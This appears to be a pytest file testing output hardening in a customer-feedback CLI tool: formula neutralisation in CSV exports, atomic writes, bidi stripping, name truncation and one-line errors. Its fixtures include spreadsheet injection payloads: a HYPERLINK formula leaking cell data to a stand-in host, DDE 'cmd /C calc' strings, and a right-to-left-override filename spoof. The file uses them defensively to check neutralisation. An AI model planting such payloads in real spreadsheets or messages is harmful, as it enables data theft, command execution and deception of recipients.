"""Issue #21 hardening, the output side: exports never carry live spreadsheet formulas, brief and export
files are written atomically, rendered ticket text carries no bidi overrides, long names are cut, and
every expected failure of the CLI is one line on stderr with exit code 2 (no traceback)."""

from __future__ import annotations

import csv
import errno
import os
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import insert
from typer.testing import CliRunner

from voc.app.cli import app
from voc.atomic import atomic_open, atomic_write
from voc.errors import OutputError
from voc.nlp.catalogue import KnownTopic
from voc.spreadsheet import FORMULA_START, safe_cell
from voc.store.models import TicketRow
from voc.weeks import Week

runner = CliRunner()

EVIL = [
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _env(db_url: str, **extra: str) -> dict[str, str]:
    return {"VOC_DATABASE_URL": db_url, **extra}


def _is_live_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


# ----------------------------------------------------------------------------- 5. formula injection


def test_safe_cell_neutralises_formula_starts_and_keeps_plain_values() -> None:
    for v in EVIL:
        assert safe_cell(v) == "'" + v
    assert safe_cell("KX-30A door") == "KX-30A door"
    assert safe_cell("门关不紧") == "门关不紧"
    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None


def test_topic_assignments_export_has_no_live_formula(db_url: str, tmp_path: Path) -> None:
    from voc.store import analysis
    from voc.store.db import make_engine

    assert runner.invoke(app, ["init"], env=_env(db_url)).exit_code == 0
    engine = make_engine(db_url)
    w = Week.parse("2026-W47")
    with engine.begin() as c:
        analysis.upsert_topics(
            c, "complaint", [KnownTopic(1, EVIL[0], ("k",), np.zeros(4), "active")], w.ordinal()
        )
        for i, sid in enumerate(EVIL):
            tid = c.execute(
                insert(TicketRow).values(
                    source="t",
                    source_id=sid,
                    event_at=w.start_dt(),
                    week=w.ordinal(),
                    body="b",
                    content_hash=str(i),
                    nlp_version="t",
                    intent="complaint",
                )
            ).inserted_primary_key[0]
            analysis.save_assignments(c, [tid], [(1, 0.5)], w.ordinal())
    engine.dispose()
    out = tmp_path / "exports" / "assign.csv"
    res = runner.invoke(app, ["topics", "assignments", "--out", str(out)], env=_env(db_url))
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0] == ["ticket_id", "topic_id", "topic_label", "intent"]
    cells = [c for r in rows for c in r]
    assert [c for c in cells if _is_live_formula(c)] == []
    assert sorted(r[0] for r in rows[1:]) == sorted("'" + v for v in EVIL)  # neutralised, not dropped
    assert {r[2] for r in rows[1:]} == {"'" + EVIL[0]}
    assert [p.name for p in out.parent.iterdir()] == ["assign.csv"]  # no temporary file left


# ----------------------------------------------------------------------------- 9. atomic writes


def test_atomic_write_replaces_whole_file(tmp_path: Path) -> None:
    p = tmp_path / "brief.html"
    atomic_write(p, "old")
    atomic_write(p, "<html>new</html>")
    assert p.read_text(encoding="utf-8") == "<html>new</html>"
    atomic_write(p, b"\x00bytes")
    assert p.read_bytes() == b"\x00bytes"
    assert [x.name for x in tmp_path.iterdir()] == ["brief.html"]
    umask = os.umask(0)
    os.umask(umask)
    assert p.stat().st_mode & 0o777 == 0o666 & ~umask  # like a file made by open(), not mkstemp's 0600


class _DiskFull:
    """A file object that takes the first chunk and then fails like a full disk."""

    def __init__(self, f) -> None:  # type: ignore[no-untyped-def]
        self.f, self.calls = f, 0

    def write(self, s: str) -> int:
        self.calls += 1
        if self.calls > 1:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return self.f.write(s)


def test_disk_full_mid_write_leaves_no_partial_file(tmp_path: Path) -> None:
    p = tmp_path / "brief-2026-W47.zh.html"
    with pytest.raises(OutputError, match=r"cannot write .*brief-2026-W47.zh.html: No space left on device"):
        with atomic_open(p) as f:
            disk = _DiskFull(f)
            disk.write("<html>" + "x" * 24_000)
            disk.write("</html>")
    assert list(tmp_path.iterdir()) == []  # neither a truncated brief nor the temporary file

    atomic_write(p, "complete old brief")
    with pytest.raises(OutputError):
        with atomic_open(p) as f:
            f.write("half a new brief")
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    assert p.read_text(encoding="utf-8") == "complete old brief"  # the old one stays whole
    assert [x.name for x in tmp_path.iterdir()] == [p.name]


def test_failing_fsync_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Delayed allocation: ENOSPC often only shows when the data is flushed to disk."""

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OutputError, match="No space left"):
        atomic_write(tmp_path / "a.md", "x" * 10_000)
    assert list(tmp_path.iterdir()) == []


def test_export_that_cannot_be_written_is_one_line(sqlite_url: str, tmp_path: Path) -> None:
    assert runner.invoke(app, ["init"], env=_env(sqlite_url)).exit_code == 0
    (tmp_path / "taken").write_text("a file, not a folder", encoding="utf-8")
    out = tmp_path / "taken" / "a.csv"
    res = runner.invoke(app, ["topics", "assignments", "--out", str(out)], env=_env(sqlite_url))
    assert res.exit_code == 2
    assert res.stderr.strip().splitlines() == [
        f"error: cannot write {out}: {out.parent} is a file, not a folder"
    ]


def test_pdf_appears_only_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Chromium prints into a private folder; the brief's folder only ever gets the complete PDF."""
    from voc.flows.pdf import html_to_pdf

    seen = tmp_path / "seen.txt"
    fake = tmp_path / "fake-chromium"
    fake.write_text(
        '#!/bin/sh\nfor a in "$@"; do case $a in --print-to-pdf=*) out=${a#--print-to-pdf=};; esac; done\n'
        f'echo "$out" > {seen}\nprintf \'%%PDF-1.4 fake\' > "$out"\n',
        encoding="utf-8",
    )
    fake.chmod(0o755)
    monkeypatch.setenv("VOC_CHROMIUM", str(fake))
    (tmp_path / "out").mkdir()
    html = tmp_path / "out" / "brief.zh.html"
    html.write_text("<html></html>", encoding="utf-8")
    pdf = html_to_pdf(html, tmp_path / "out" / "brief.zh.pdf")
    assert pdf.read_bytes() == b"%PDF-1.4 fake"
    printed = Path(seen.read_text(encoding="utf-8").strip())
    assert printed.parent != html.parent and not printed.exists()  # printed elsewhere, then moved in whole
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["brief.zh.html", "brief.zh.pdf"]


# ----------------------------------------------------------------------------- 10. bidi and long names

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def _hostile_brief(lang: str):  # type: ignore[no-untyped-def]
    import dataclasses

    from tests import reports_fixtures as fx
    from voc.reports.model import Quote

    defect, safety = fx.surges(lang)
    defect = dataclasses.replace(
        defect,
        product="\u202e" + "超长产品名" * 400,
        model="AF\u2066-300\u2069",
        owner="王工\u202e",
        topic_label="屏幕\u202e闪烁\u202c",
        workaround="重启\u200f即可",
        quotes=(Quote(text="付款后 \u202egnp.exe\u202c 没收到货", language="zh"),),
    )
    brief = dataclasses.replace(fx.brief(lang), surges=(defect, safety))
    alert = dataclasses.replace(fx.digest(lang), surges=(defect, safety), owner="Li\u202eNa")
    return brief, alert


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_bidi_controls_never_reach_brief_or_alert(lang: str) -> None:
    from voc.reports.render import alert_subject, render_alert, render_brief

    brief, alert = _hostile_brief(lang)
    outputs = {
        "brief.html": render_brief(brief, lang, "html"),
        "brief.md": render_brief(brief, lang, "md"),
        "alert.txt": render_alert(alert, "text"),
        "alert.html": render_alert(alert, "html"),
        "alert.md": render_alert(alert, "md"),
        "subject": alert_subject(alert),
    }
    for name, text in outputs.items():
        assert not [c for c in text if c in BIDI], name
    assert (
        "付款后 gnp.exe 没收到货" in outputs["brief.html"]
        and "付款后 gnp.exe 没收到货" in outputs["alert.txt"]
    )


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_long_product_name_is_cut_in_headings(lang: str) -> None:
    import re

    from voc.reports.render import NAME_MAX, alert_subject, render_alert, render_brief

    brief, alert = _hostile_brief(lang)
    html = render_brief(brief, lang, "html")
    headings = re.findall(r"<h3>(.*?)</h3>", html, re.S)
    long_one = next(h for h in headings if "超长产品名" in h)
    assert "…" in long_one and len(long_one) < 3 * NAME_MAX
    assert "超长产品名" * 40 not in html  # not printed in full anywhere in the brief
    import dataclasses

    single = dataclasses.replace(alert, surges=alert.surges[:1])
    for text in (render_alert(alert, "text"), render_alert(alert, "md"), alert_subject(single)):
        assert "超长产品名" * 40 not in text and "…" in text


# ----------------------------------------------------------------------------- 8. one line, exit 2


def _one_line(res, *must: str) -> str:  # type: ignore[no-untyped-def]
    assert res.exit_code == 2, (res.exit_code, res.output)
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
    assert "Traceback" not in res.output
    for m in must:
        assert m in lines[0], (m, lines[0])
    return lines[0]


def test_config_problems_are_all_listed_one_line_each(sqlite_url: str, tmp_path: Path) -> None:
    cfg = tmp_path / "voc.yaml"
    cfg.write_text(
        'order_patterns:\n  - "SO-\\\\d{8}"\n  - "SO-(\\\\d{8}"\nmax_body_chars: -5\n'
        "thresholds:\n  min_count: many\n  fdr_q: 3\n",
        encoding="utf-8",
    )
    res = runner.invoke(app, ["topics"], env=_env(sqlite_url, VOC_CONFIG=str(cfg)))
    assert res.exit_code == 2 and "Traceback" not in res.output
    lines = res.stderr.strip().splitlines()
    assert [ln.split(": ")[2] for ln in lines] == [
        "order_patterns.1",
        "max_body_chars",
        "thresholds.min_count",
        "thresholds.fdr_q",
    ]
    assert all(ln.startswith(f"error: config file {cfg}: ") for ln in lines)
    assert "invalid regular expression 'SO-(\\d{8}'" in lines[0] and "(got -5)" in lines[1]


def test_secret_values_are_never_echoed(sqlite_url: str, tmp_path: Path) -> None:
    cfg = tmp_path / "voc.yaml"
    cfg.write_text(
        "owners:\n  - name: a\n    channels:\n      - kind: slack\n"
        "        webhook_env: https://hooks.slack.com/services/T0/B0/s3cr3tT0ken\n",
        encoding="utf-8",
    )
    res = runner.invoke(app, ["topics"], env=_env(sqlite_url, VOC_CONFIG=str(cfg)))
    _one_line(res, "owners.0.channels.0")
    assert "s3cr3tT0ken" not in res.output
    res = runner.invoke(app, ["topics"], env=_env(sqlite_url, VOC_SMTP_PORT="hunter2"))
    _one_line(res, "VOC_SMTP_PORT")
    assert "hunter2" not in res.output


def test_config_file_problems_are_one_line(sqlite_url: str, tmp_path: Path) -> None:
    gbk = tmp_path / "gbk.yaml"
    gbk.write_bytes("products:\n  - id: p1\n    name_zh: 烤箱\n    name_en: Oven\n".encode("gbk"))
    _one_line(
        runner.invoke(app, ["topics"], env=_env(sqlite_url, VOC_CONFIG=str(gbk))),
        str(gbk),
        "not UTF-8",
        "line 3",
        "GBK",
    )
    _one_line(
        runner.invoke(app, ["topics"], env=_env(sqlite_url, VOC_CONFIG=str(tmp_path))),
        str(tmp_path),
        "is a folder",
    )
    bom = tmp_path / "bom.yaml"  # UTF-8 with a BOM (Windows Notepad) is fine
    bom.write_bytes("\ufeffmax_body_chars: 5000\n".encode())
    assert runner.invoke(app, ["init"], env=_env(sqlite_url, VOC_CONFIG=str(bom))).exit_code == 0


def test_database_url_problems_are_one_line(tmp_path: Path) -> None:
    _one_line(runner.invoke(app, ["topics"], env=_env("mysql://u:pw@db/voc")), "VOC_DATABASE_URL", "'mysql'")
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    _one_line(
        runner.invoke(app, ["init"], env=_env(f"sqlite:///{tmp_path}/afile/voc.sqlite3")),
        "cannot create the SQLite database",
        "is a file, not a folder",
    )
    _one_line(
        runner.invoke(app, ["init"], env=_env("sqlite:////proc/no/voc.sqlite3")),
        "cannot create the SQLite database /proc/no/voc.sqlite3",
    )


def test_read_only_database_is_one_line(tmp_path: Path) -> None:
    db = tmp_path / "voc.sqlite3"
    assert runner.invoke(app, ["init"], env=_env(f"sqlite:///{db}")).exit_code == 0
    ro = f"sqlite:///file:{db}?mode=ro&uri=true"
    _one_line(
        runner.invoke(app, ["actions", "add", "--owner", "qa", "--product", "p1"], env=_env(ro)),
        "the database refused the operation: attempt to write a readonly database",
    )


def test_refused_concurrent_run_is_one_line_before_prefect(db_url: str) -> None:
    import socket
    from datetime import datetime

    from voc.store.db import make_engine
    from voc.store.models import RunLock

    assert runner.invoke(app, ["init"], env=_env(db_url)).exit_code == 0
    engine = make_engine(db_url)
    with engine.begin() as c:
        c.execute(
            insert(RunLock).values(
                week=Week.parse("2026-W47").ordinal(),
                holder=f"{socket.gethostname()}:1",
                acquired_at=datetime.now().replace(microsecond=0),
            )
        )
    engine.dispose()
    res = runner.invoke(app, ["run-weekly", "--week", "2026-W47"], env=_env(db_url))
    _one_line(res, "a weekly run for 2026-W47 is already in progress")
    assert "prefect" not in res.output.lower()


def test_unexpected_error_says_where_the_log_is(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from voc.store import topic_edits

    def bug(*a: object) -> int:
        raise ZeroDivisionError("division by zero in export")

    assert runner.invoke(app, ["init"], env=_env(sqlite_url)).exit_code == 0
    monkeypatch.setattr(topic_edits, "export_assignments", bug)
    log = tmp_path / "logs" / "voc.log"
    res = runner.invoke(
        app,
        ["topics", "assignments", "--out", str(tmp_path / "a.csv")],
        env=_env(sqlite_url, VOC_LOG_FILE=str(log)),
    )
    assert res.exit_code == 1
    assert res.stderr.strip().splitlines() == [
        f"error: unexpected ZeroDivisionError: division by zero in export (a bug; the traceback is in {log})"
    ]
    assert "Traceback" in log.read_text(encoding="utf-8") and "def bug" not in res.output
